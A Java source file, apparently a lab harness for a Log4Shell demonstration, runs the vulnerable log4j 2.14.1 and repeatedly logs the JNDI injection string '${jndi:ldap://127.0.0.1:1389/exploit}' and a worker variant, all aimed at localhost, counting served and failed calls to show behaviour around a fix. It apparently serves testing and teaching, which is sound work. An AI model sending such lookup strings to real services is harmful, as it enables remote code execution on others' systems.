import java.util.concurrent.atomic.AtomicLong;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;

/**
 * The service of README's Log4Shell example, on log4j-core 2.14.1 with its default configuration
 * (no log4j2.xml): it logs an attacker's string every second, and its worker threads log one too,
 * as a busy service's requests would, counting every call that throws.
 *
 * <p>It logs with error(): the default configuration writes ERROR and above, and 2.14.1 resolves a
 * message's lookups only for a line it writes, so an info() of the string connects nowhere.
 */
public class Log4ShellService {
    static final Logger LOG = LogManager.getLogger(Log4ShellService.class);
    static final AtomicLong served = new AtomicLong();
    static final AtomicLong failed = new AtomicLong();

    public static void main(String[] args) throws Exception {
        int workers = args.length > 0 ? Integer.parseInt(args[0]) : 4;
        Runtime.getRuntime().addShutdownHook(new Thread(() ->
                System.out.println("summary: requests served=" + served.get() + ", failed requests=" + failed.get())));
        for (int i = 0; i < workers; i++) {
            Thread t = new Thread(Log4ShellService::serve, "worker-" + i);
            t.setDaemon(true);
            t.start();
        }
        while (true) {
            LOG.error("${jndi:ldap://127.0.0.1:1389/exploit}");
            Thread.sleep(1000);
        }
    }

    private static void serve() {
        while (true) {
            try {
                // Port 1390: nothing listens there, so before the fix each lookup is one refused
                // connection (fast, and no socket left in TIME_WAIT), and the listener on 1389
                // counts the once-a-second string alone.
                LOG.error("request from user ${jndi:ldap://127.0.0.1:1390/worker}");
                served.incrementAndGet();
            } catch (Throwable e) {
                failed.incrementAndGet();
                System.err.println("FAILED: " + e);
            }
            try {
                Thread.sleep(5);
            } catch (InterruptedException e) {
                return;
            }
        }
    }
}
